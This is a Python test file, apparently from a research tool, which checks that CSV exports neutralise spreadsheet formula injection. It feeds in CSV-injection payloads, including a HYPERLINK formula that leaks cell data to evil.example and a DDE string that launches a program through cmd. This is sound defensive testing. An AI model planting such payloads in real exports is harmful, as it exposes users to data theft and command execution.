"""Every CSV contreact writes is safe to open: model text that looks like a formula is inert.

A scripted model writes a reflection `=HYPERLINK(...)`, a memory key `=cmd|' /C calc'!A0`,
values starting with `@`, `+`, `-` and a tab, and messages the operator with a formula. The
run's CSV export, a batch's CSV tables and every CSV of the report are read back: no cell
starts with `=`, `+`, `-`, `@`, tab or CR unless it is a plain number, and each guarded cell
is the model's text behind one apostrophe.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import update

from contreact.analysis.csv_writer import TRIGGERS, original
from contreact.analysis.pei.evaluation import set_level
from contreact.checkpoints.engines import engine_for
from contreact.checkpoints.registry import get_run
from contreact.checkpoints.schema import runs
from contreact.config import parse_config
from contreact.engine.runner import start_run
from support.backends import Backend
from support.cli import cli_in_process
from support.stub import scripted_stub

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
VALUES = {"plus": "+SUM(1,1)", "minus": "-2+3", "at": "@SUM(A1:A2)", "tab": "\t=1+1"}


def call(name: str, **arguments: str) -> dict[str, object]:
    return {"tool_calls": [{"name": name, "arguments": arguments}]}


SCRIPT = {
    1: [
        call("write", key=DDE, value="@SUM(1+1)*cmd|' /C calc'!A0"),
        *(call("write", key=k, value=v) for k, v in VALUES.items()),
        call("send_message_to_operator", message="+1 555 0100 =call me"),
        {"content": LINK},
    ],
    2: [{"content": "-1 is a number; this note is not"}],
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(where: str, text: str, seen: set[str]) -> None:
    for cell in cells(text):
        if cell[:1] and cell[0] in TRIGGERS:
            float(cell)  # a plain number, else this raises: a formula got through
        seen.add(original(cell))


def test_every_csv_contreact_writes_is_inert(sqlite_backend: Backend, tmp_path: Path) -> None:
    backend = sqlite_backend
    with scripted_stub(SCRIPT) as server:
        config = parse_config(
            {
                "run_id": "hostile",
                "model": "stub-model",
                "cycles": 2,
                "ollama": {"host": server.url, "timeout_s": 20, "retries": 2},
                "storage": backend.storage_yaml(),
            },
            "test",
        )
        assert start_run(config, backend.storage()).status == "completed"
    engine = engine_for(backend.storage())
    with engine.begin() as conn:
        conn.execute(update(runs).where(runs.c.run_id == "hostile").values(batch="b"))
    set_level(backend.storage(), get_run(engine, "hostile"), DDE, 3)

    written: dict[str, str] = {}
    one = cli_in_process(backend, "export", "hostile", "--format", "csv")
    assert one.returncode == 0, one.stderr
    written["export RUN"] = one.stdout
    tables = tmp_path / "tables"
    batch = cli_in_process(backend, "export", "--batch", "b", "-f", "csv", "--out", str(tables))
    assert batch.returncode == 0, batch.stderr
    report = tmp_path / "report"
    made = cli_in_process(
        backend, "report", "--batch", "b", "--out", str(report), "--lexical", timeout=600
    )
    assert made.returncode == 0, made.stderr
    for path in [*tables.glob("*.csv"), *report.glob("*.csv")]:
        written[str(path.relative_to(tmp_path))] = path.read_text(encoding="utf-8")
    assert {"tables/memory.csv", "tables/operator_messages.csv", "report/cycles.csv"} <= set(
        written
    )

    seen: set[str] = set()
    for where, text in written.items():
        assert_safe(where, text, seen)
    # The model's text is all there, behind the apostrophe that keeps it inert.
    assert {LINK, DDE, *VALUES.values(), "+1 555 0100 =call me"} <= seen
    assert "'" + DDE in cells(written["tables/memory.csv"])
    assert "'" + LINK in cells(written["tables/cycles.csv"])
